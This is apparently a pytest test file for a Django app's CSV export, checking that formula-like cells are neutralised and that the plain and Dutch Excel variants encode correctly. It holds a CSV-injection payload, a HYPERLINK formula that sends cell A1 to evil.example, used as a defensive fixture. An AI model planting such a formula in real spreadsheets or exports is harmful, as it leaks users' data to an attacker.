"""The one CSV writer (lib/csv_export.py): plain CSV and Excel (NL), formulas neutralised (issue #18)."""

import csv
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.test import Client, RequestFactory
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from samenwerkwijzer.instruments import definitions
from samenwerkwijzer.instruments.tests.factories import checker_answers, revealed_round, tien_answers
from samenwerkwijzer.lib.csv_export import (
    BOM,
    FORMULA_STARTS,
    Number,
    Variant,
    csv_response,
    neutralise,
    render,
    variant_from,
)

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'


def _parse(data: bytes, variant: Variant) -> list[list[str]]:
    text = data.decode("utf-8")
    if variant is Variant.EXCEL_NL:
        assert text.startswith(BOM)
        text = text.removeprefix(BOM)
    else:
        assert not text.startswith(BOM)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter="," if variant is Variant.PLAIN else ";"))


# --- neutralising --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\n\n@cmd", "\u00a0\u3000=1", HOSTILE],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Bakkerij Samen", "", "   ", "3,5", "'=al geneutraliseerd", "a=b", "e-mail"])
def test_ordinary_text_stays_as_it_is(value):
    assert neutralise(value) == value


@given(st.text())
def test_no_text_comes_out_as_a_formula(value):
    shown = neutralise(value)
    assert shown in (value, "'" + value)
    assert shown[:1] not in FORMULA_STARTS and shown.lstrip()[:1] not in FORMULA_STARTS
    assert (shown == value) == (value.lstrip()[:1] not in FORMULA_STARTS and value[:1] not in FORMULA_STARTS)


@given(st.lists(st.text(), min_size=1, max_size=4), st.sampled_from(list(Variant)))
def test_every_cell_reads_back_as_one_cell_neutralised(cells, variant):
    rows = _parse(render([cells], header=["a", "b"], variant=variant), variant)
    assert rows[0] == ["a", "b"]
    assert rows[1] == [neutralise(cell) for cell in cells]


def test_numbers_written_by_our_code_are_data_not_formulas():
    # A negative number from a number field is the number -3: it cannot carry a formula, so it is
    # not prefixed. The same characters as text (typed by someone) are neutralised.
    data = render(
        [[-3, Decimal("-2.5"), Number.of(-3), Number.of(Decimal("-1.5"), 1), "-3", None, True]],
        header=["x"],
        variant=Variant.EXCEL_NL,
    )
    assert _parse(data, Variant.EXCEL_NL)[1] == ["-3", "-2.5", "-3", "-1,5", "'-3", "", "True"]


# --- the two variants ----------------------------------------------------------------------------


def test_plain_csv_is_utf8_without_a_mark_with_commas_and_rfc_4180_quoting():
    data = render(
        [["Café; één", 'zei "ja"', "regel 1\nregel 2", "3,5"]], header=["A", "B", "C", "D"], variant=Variant.PLAIN
    )
    assert data == 'A,B,C,D\r\nCafé; één,"zei ""ja""","regel 1\nregel 2","3,5"\r\n'.encode()


def test_excel_nl_is_utf8_with_a_mark_and_semicolons():
    data = render(
        [["Café; één", 'zei "ja"', "regel 1\r\nregel 2", "3,5"]], header=["A", "B", "C", "D"], variant=Variant.EXCEL_NL
    )
    assert data == '\ufeffA;B;C;D\r\n"Café; één";"zei ""ja""";"regel 1\r\nregel 2";3,5\r\n'.encode()


@pytest.mark.parametrize(
    ("query", "expected"),
    [({}, Variant.EXCEL_NL), ({"variant": "csv"}, Variant.PLAIN), ({"variant": "excel"}, Variant.EXCEL_NL)]
    + [({"variant": bad}, None) for bad in ("xlsx", "", "EXCEL", "csv\x00", "\u0661", "excel " * 100)],
)
def test_the_variant_comes_from_the_query_string(query, expected):
    assert variant_from(RequestFactory().get("/", query), default=Variant.EXCEL_NL) is expected


def test_an_unknown_variant_is_a_400_not_a_file():
    response = csv_response(
        RequestFactory().get("/", {"variant": "xlsx"}), [], header=["a"], filename="x.csv", default=Variant.PLAIN
    )
    assert response.status_code == 400 and "text/csv" not in response["Content-Type"]


# --- through the round export ---------------------------------------------------------------------


def _client(user):
    client = Client()
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "nl"
    return client


def _csv_url(personas, round_):
    return reverse("instruments:round_csv", args=[personas.collaboration.pk, round_.pk])


@pytest.mark.django_db
@pytest.mark.parametrize("variant", list(Variant))
def test_an_organisation_named_like_a_formula_stays_text_in_the_round_export(personas, variant):
    personas.beta.name = HOSTILE
    personas.beta.save(update_fields=["name"])
    round_ = revealed_round(personas, definitions.TIEN_BASISVRAGEN, bob=tien_answers(text="-1+1; =2\nzie hierboven"))
    response = _client(personas.olivia).get(_csv_url(personas, round_), {"variant": variant.value})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"].startswith('attachment; filename="')
        and "-ronde-1-" in response["Content-Disposition"]
    )
    rows = _parse(response.content, variant)
    assert all(len(row) == 8 for row in rows), "one column per field, also in Dutch Excel"
    names = {row[3] for row in rows[1:]}
    assert "'" + HOSTILE in names and HOSTILE not in names
    answers = [row[7] for row in rows[1:] if row[3] == "'" + HOSTILE]
    assert any(answer.startswith("'-1+1; =2\nzie hierboven") for answer in answers)
    for row in rows:
        for cell in row:
            assert cell.lstrip()[:1] not in FORMULA_STARTS, cell


@pytest.mark.django_db
def test_the_export_url_without_a_variant_keeps_its_bytes(personas):
    # Tools download the bare URL: it stays the Excel (NL) form it always was, byte for byte.
    round_ = revealed_round(personas, alice=checker_answers(1), bob=checker_answers(4))
    client = _client(personas.olivia)
    bare = client.get(_csv_url(personas, round_))
    assert bare.content == client.get(_csv_url(personas, round_), {"variant": "excel"}).content
    text = bare.content.decode()
    assert text.startswith(
        "\ufeffInstrument;Ronde;Onthuld op;Organisatie;Nummer;Hoofdstuk in de gids;Vraag;Antwoord\r\n"
    )
    assert "\r\nSamenwerkingschecker;1;" in text and text.endswith("\r\n")
    plain = client.get(_csv_url(personas, round_), {"variant": "csv"}).content.decode()
    assert plain.startswith("Instrument,Ronde,Onthuld op,Organisatie,Nummer,Hoofdstuk in de gids,Vraag,Antwoord\r\n")
    assert _parse(bare.content, Variant.EXCEL_NL) == _parse(plain.encode(), Variant.PLAIN)


@pytest.mark.django_db
@pytest.mark.parametrize("bad", ["xlsx", "", "\u0661\u0662", "excel\x00"])
def test_a_bad_variant_is_a_clear_400(personas, bad):
    round_ = revealed_round(personas)
    response = _client(personas.olivia).get(_csv_url(personas, round_), {"variant": bad})
    assert response.status_code == 400
    assert "alleen als csv of voor Excel (NL)" in response.content.decode()


@pytest.mark.django_db
def test_the_results_page_offers_csv_and_excel_nl(personas):
    round_ = revealed_round(personas)
    page = (
        _client(personas.olivia)
        .get(reverse("instruments:round_detail", args=[personas.collaboration.pk, round_.pk]))
        .content.decode()
    )
    url = _csv_url(personas, round_)
    assert f'href="{url}?variant=csv">Antwoorden downloaden (csv)</a>' in page
    assert f'href="{url}?variant=excel">Antwoorden downloaden voor Excel (NL)</a>' in page
